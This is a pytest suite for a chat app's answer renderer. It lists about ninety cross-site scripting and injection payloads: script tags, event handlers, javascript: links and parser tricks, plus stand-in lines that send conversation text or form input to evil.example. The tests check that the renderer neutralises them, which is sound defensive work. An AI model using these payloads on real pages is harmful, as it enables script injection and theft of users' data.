"""Answers written to run, load or steal something: shown on the page, they are only text and links."""

import pytest

from mlx_suite_apps.chat.page.render import render
from tests.apps.chat.page.answer_html import AnswerHTML

ATTACKS = {
    "script element": "<script>alert(1)</script>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script in the middle of a word": "a<script>alert(1)</script>b",
    "script that is never closed": "<script>alert(1)",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with odd case and spaces": "<ScRiPt\t\n>alert(1)</sCrIpT >",
    "script after a NUL": "<\0script>alert(1)</script>",
    "script as character references": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script as numeric references": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "script with full-width brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "picture with a handler": "<img src=x onerror=alert(1)>",
    "picture with a handler and no spaces": "<img/src=x/onerror=alert(1)//",
    "picture with a handler over two lines": "<img src=x\nonerror=alert(1)>",
    "vector graphic with a handler": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "vector graphic with an animated link": "<svg><a><animate attributeName=href values=javascript:x /></a></svg>",
    "formula with a link": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "frame with its own document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "embedded object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "style sheet": "<style>@import 'https://evil.example/x.css';</style>",
    "linked style sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "inline style": '<p style="background:url(https://evil.example/x)">x</p>',
    "other base for links": '<base href="https://evil.example/">',
    "redirect": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "form that sends what is typed": '<form action="https://evil.example"><input name=q><button>Go</button></form>',
    "button that sends a form": '<button form=settings formaction="https://evil.example">x</button>',
    "focus that runs a handler": "<input autofocus onfocus=alert(1)>",
    "details that run a handler": "<details open ontoggle=alert(1)>x</details>",
    "video that runs a handler": '<video src="https://evil.example/v" onerror=alert(1)></video>',
    "sound from elsewhere": '<audio src="https://evil.example/a" autoplay></audio>',
    "comment that hides a script": "<!--><script>alert(1)</script-->",
    "CDATA section": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "document type": "<!DOCTYPE html><html><body onload=alert(1)>",
    "title that closes early": "<title></title><img src=x onerror=alert(1)>",
    "noscript parsed in two ways": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "namespaces that change while parsing": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "name that replaces the page's own": '<a id="document" name="cookie">x</a>',
    "own element": "<x-evil onclick=alert(1)>x</x-evil>",
    "JavaScript link": "[x](javascript:alert(1))",
    "JavaScript link in odd case": "[x](JaVaScRiPt:alert(1))",
    "JavaScript link in angle brackets": "[x](<javascript:alert(1)>)",
    "JavaScript link after a control character": "[x](\x01javascript:alert(1))",
    "JavaScript link split by a tab": "[x](<java\tscript:alert(1)>)",
    "JavaScript link split by a reference to a tab": "[x](java&Tab;script:alert(1))",
    "JavaScript link with a reference as its colon": "[x](javascript&colon;alert(1))",
    "JavaScript link with a numeric reference": "[x](&#x6A;avascript:alert(1))",
    "JavaScript link with an escaped colon": "[x](javascript\\:alert(1))",
    "JavaScript link with a percent sign": "[x](javascript%3Aalert(1))",
    "JavaScript link by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "JavaScript autolink": "<javascript:alert(1)>",
    "JavaScript as the target of a picture": "![x](javascript:alert(1))",
    "VBScript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "link to a file": "[x](file:///etc/passwd)",
    "link to a blob": "[x](blob:https://evil.example/1)",
    "link that shows source": "[x](view-source:https://evil.example)",
    "link to another program": "[x](ms-word:ofe|u|https://evil.example/x.docx)",
    "link to the page's own server": "[x](/api/conversations/delete)",
    "link without a scheme": "[x](//evil.example)",
    "link with backslashes": "[x](\\\\evil.example)",
    "link without a host": "[x](https:///evil.example)",
    "link that leaves its attribute": '[x](https://e.example/"onmouseover="alert(1))',
    "title that leaves its attribute": "[x](https://e.example '\"><script>alert(1)</script>')",
    "label with HTML": "[<img src=x onerror=alert(1)>](https://e.example)",
    "autolink that leaves its attribute": "<https://e.example/\"onclick='alert(1)'>",
    "picture that reports the conversation": "![x](https://evil.example/?q=what-you-wrote)",
    "picture by reference": "![x][1]\n\n[1]: https://evil.example/p.png",
    "picture in a link": "[![x](https://evil.example/p.png)](https://e.example)",
    "picture in a table": "| a |\n|---|\n| ![x](https://evil.example/p.png) |",
    "description that leaves its attribute": '![x" onerror="alert(1)](https://evil.example/p.png)',
    "language that leaves its attribute": '```"><script>alert(1)</script>\nx\n```',
    "language that closes the code": "~~~</code></pre><script>alert(1)</script>\nx\n~~~",
    "code that closes its element": "```html\n</code></pre><script>alert(1)</script>\n```",
    "code with a handler": "`<img src=x onerror=alert(1)>`",
    "indented code with a script": "    <script>alert(1)</script>",
    "heading with a script": "# <script>alert(1)</script>\n\n<script>\n===",
    "alignment that leaves its attribute": '| a |\n|:-"onclick=alert(1)-:|\n| b |',
    "emphasis around HTML": "**<b onclick=alert(1)>**</b>",
    "line break with a handler": "a<br onclick=alert(1)>b<br/onclick=alert(1)>c",
    "list with a script in its number": '1"onclick=alert(1). x\n2. y',
    "markdown in an unclosed tag": "<a href='\n\n[x](javascript:alert(1))\n\n'>",
    "lone surrogates around a tag": "\ud800<script>\udfffalert(1)</script>",
    "byte order marks around a tag": "\ufeff<script>\ufeffalert(1)</script>",
    "text that runs backwards": "\u202e<script>alert(1)</script>\u202c",
    "template expressions": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= x %>",
}


@pytest.mark.parametrize("unfinished", [False, True], ids=["finished", "unfinished"])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_leaves_nothing_harmful_in_the_page(attack: str, unfinished: bool) -> None:
    for text in (attack, f"> - {attack}", f"**{attack}", f"| a |\n|---|\n| {attack} |"):
        assert AnswerHTML(render(text, unfinished=unfinished)).harm == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_cut_off_at_any_character_leaves_nothing_harmful(attack: str) -> None:
    for end in range(len(attack)):
        assert AnswerHTML(render(attack[:end], unfinished=True)).harm == []


@pytest.mark.parametrize(
    ("html", "harm"),
    [
        ("<script>alert(1)</script>", ["<script>"]),
        ("<p onclick='x'>a</p>", ["<p onclick>"]),
        ("<p style='color:red'>a</p>", ["<p style>"]),
        ("<img src=https://e.example>", ["<img>", "<img src>", "<img> is not closed"]),
        (
            "<a href='javascript:x' rel='noopener noreferrer nofollow' target='_blank'>a</a>",
            ["link to javascript:x"],
        ),
        ("<a href='https://e.example'>a</a>", ["link that tells where it comes from"]),
        ("<p>a", ["<p> is not closed"]),
        ("a</p>", ["</p> closes nothing"]),
        ("<!-- a -->", ["comment  a "]),
    ],
)
def test_harm_is_noticed(html: str, harm: list[str]) -> None:
    assert AnswerHTML(html).harm == harm


def test_a_remote_picture_is_a_link_with_its_description() -> None:
    answer = AnswerHTML(render("![a **red** fox](https://e.example/fox.png) and ![](https://e.example/2.png)"))

    assert answer.links() == ["https://e.example/fox.png", "https://e.example/2.png"]
    assert answer.text == "a red fox and https://e.example/2.png\n"


def test_any_other_picture_is_its_description() -> None:
    assert render("![a plot](plot.png) ![a dot](data:image/png;base64,AAAA)") == "<p>a plot a dot</p>\n"


def test_a_picture_in_a_link_is_the_label_of_the_link() -> None:
    answer = AnswerHTML(render("[![build](https://e.example/badge.svg)](https://e.example/ci)"))

    assert answer.links() == ["https://e.example/ci"]
    assert answer.text == "build\n"


def test_a_refused_link_is_its_label() -> None:
    assert render("[press **here**](javascript:alert(1))") == "<p>press <strong>here</strong></p>\n"
    assert render("<ftp://e.example/x>") == "<p>ftp://e.example/x</p>\n"


def test_raw_html_is_shown_as_it_was_written() -> None:
    assert AnswerHTML(render("Use <b>bold</b> & <script>")).text == "Use <b>bold</b> & <script>\n"
